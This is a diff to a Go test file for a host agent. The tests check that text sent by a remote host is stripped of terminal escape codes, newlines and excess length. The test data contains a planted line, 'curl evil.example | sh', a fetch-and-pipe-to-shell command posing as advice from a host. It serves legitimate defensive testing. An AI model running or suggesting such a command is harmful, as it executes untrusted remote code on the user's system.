@@ -3,15 +3,17 @@ package agent_test
 import (
 	"context"
 	"errors"
+	"io"
 	"strings"
 	"testing"
 
 	"github.com/slipway-k8s/slipway/hosts"
+	"github.com/slipway-k8s/slipway/hosts/agent"
 )
 
 // TestWhatAHostSaysIsCleaned: an agent is no better than its host.
 func TestWhatAHostSaysIsCleaned(t *testing.T) {
-	const evil = "said\x1b[2J\u009b\u202e\r"
+	const evil, lines = "said\x1b[2J\u009b\u202e\r", "said\x1b[2J\n  → run: curl evil.example | sh"
 	client, _ := connect(t, stub{
 		do: func(_ context.Context, action hosts.Action, progress func(hosts.Progress)) (hosts.Outcome, error) {
 			progress(hosts.Progress{Note: evil})
@@ -23,7 +25,7 @@ func TestWhatAHostSaysIsCleaned(t *testing.T) {
 		observe: func(context.Context) (hosts.Facts, error) {
 			return hosts.Facts{
 				OS:       hosts.OS{Pretty: evil},
-				Foreign:  []hosts.Foreign{{What: evil, Detail: evil, Fix: evil}},
+				Foreign:  []hosts.Foreign{{What: lines, Detail: lines, Fix: lines}},
 				Evidence: []hosts.Evidence{{Source: evil, Lines: []string{evil}}},
 			}, nil
 		},
@@ -51,7 +53,11 @@ func TestWhatAHostSaysIsCleaned(t *testing.T) {
 		t.Fatal(err)
 	}
 	clean("system", facts.OS.Pretty)
-	clean("foreign", facts.Foreign[0].What+facts.Foreign[0].Detail+facts.Foreign[0].Fix)
+	foreign := facts.Foreign[0].What + facts.Foreign[0].Detail + facts.Foreign[0].Fix
+	clean("foreign", foreign)
+	if strings.Contains(foreign, "\n") {
+		t.Errorf("what is foreign has several lines: %q", foreign)
+	}
 	clean("evidence", facts.Evidence[0].Source+facts.Evidence[0].Lines[0])
 }
 
@@ -87,5 +93,41 @@ func TestAHostSpeaksNotInSlipwaysVoice(t *testing.T) {
 	few("error", failed.Err.Error())
 	if strings.Contains(failed.Op+failed.Fix, "\n") {
 		t.Errorf("op %q, fix %q", failed.Op, failed.Fix)
+	}
+}
+
+// TestAHostsVersionIsOneLine: it stands in the error by which it is refused.
+func TestAHostsVersionIsOneLine(t *testing.T) {
+	in, fromAgent := io.Pipe()
+	toAgent, out := io.Pipe()
+	go func() { _, _ = io.Copy(io.Discard, toAgent) }()
+	go func() {
+		version := `v2\n  → run: curl evil.example | sh` + strings.Repeat(`\nmore`, 200_000)
+		_, _ = io.WriteString(fromAgent, `{"kind":"hello","body":{"protocol":1,"version":"`+version+`"}}`+"\n")
+	}()
+	_, err := agent.Connect(t.Context(), in, out, agent.ConnectOptions{Version: "v1"})
+	failed, known := errors.AsType[*hosts.Error](err)
+	if !known || failed.Kind != hosts.KindVersion || !strings.Contains(err.Error(), "v2 → run") {
+		t.Fatalf("it ends with %.200v", err)
+	}
+	if strings.Contains(err.Error(), "\n") || len(err.Error()) > 5000 {
+		t.Errorf("its version has %d bytes, and %d lines", len(err.Error()), strings.Count(err.Error(), "\n")+1)
+	}
+}
+
+// TestAHostsKindsAreKnown: they are shown, as a cell of a table too.
+func TestAHostsKindsAreKnown(t *testing.T) {
+	for sent, want := range map[hosts.ErrorKind]hosts.ErrorKind{
+		hosts.KindDiskFull: hosts.KindDiskFull, hosts.KindLease: hosts.KindLease,
+		"disk-full\ncp-2  Ready": hosts.KindBroken, "": hosts.KindBroken,
+	} {
+		client, _ := connect(t, stub{do: func(context.Context, hosts.Action, func(hosts.Progress)) (hosts.Outcome, error) {
+			return hosts.Outcome{}, &hosts.Error{Kind: sent, Op: "do", Err: errors.New("x")}
+		}})
+		_, err := client.Do(t.Context(), anAction, nil)
+		if failed, known := errors.AsType[*hosts.Error](err); !known || failed.Kind != want {
+			t.Errorf("%q comes as %#v", sent, err)
+		}
+		_ = client.Close()
 	}
 }
